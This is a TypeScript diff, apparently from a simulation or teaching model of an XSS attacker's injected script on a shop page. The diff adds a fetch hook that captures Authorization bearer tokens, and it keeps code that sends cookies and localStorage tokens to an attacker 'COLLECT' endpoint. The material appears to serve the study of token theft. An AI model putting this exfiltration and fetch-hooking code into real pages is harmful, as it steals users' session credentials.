@@ -6,11 +6,27 @@ import { COLLECT } from './site.ts'
  * The script that Mallory got into the shop's page (XSS). It has exactly the powers of the page's own scripts: it reads
  * what they may read and sends it home, where the answer does not matter.
  */
-export async function injectedScript(page: Page): Promise<void> {
-  const report: Report = {
-    origin: page.origin,
-    cookies: page.cookie,
-    token: page.localStorage.getItem('access_token'),
+export const injectedScript = (page: Page): Promise<unknown> =>
+  sendHome(page, page.fetch, page.localStorage.getItem('access_token'), 'localStorage')
+
+/**
+ * Where the token is in no place that another script can name, it still has to go through the page's `fetch`: this one
+ * puts its own in that place and waits for the next request. It is there for as long as the page is.
+ */
+export function hookFetch(page: Page): void {
+  const { fetch } = page
+  page.fetch = async (url, init = {}) => {
+    const answer = await fetch(url, init)
+    const [scheme, token] = (init.headers?.Authorization ?? '').split(' ')
+    if (scheme && token) {
+      page.fetch = fetch
+      await sendHome(page, fetch, token, 'request')
+    }
+    return answer
   }
-  await page.fetch(COLLECT, { method: 'POST', mode: 'no-cors', body: JSON.stringify(report) })
+}
+
+function sendHome(page: Page, fetch: Page['fetch'], token: string | null, seenIn: Report['seenIn']) {
+  const report: Report = { origin: page.origin, cookies: page.cookie, token, seenIn }
+  return fetch(COLLECT, { method: 'POST', mode: 'no-cors', body: JSON.stringify(report) })
 }
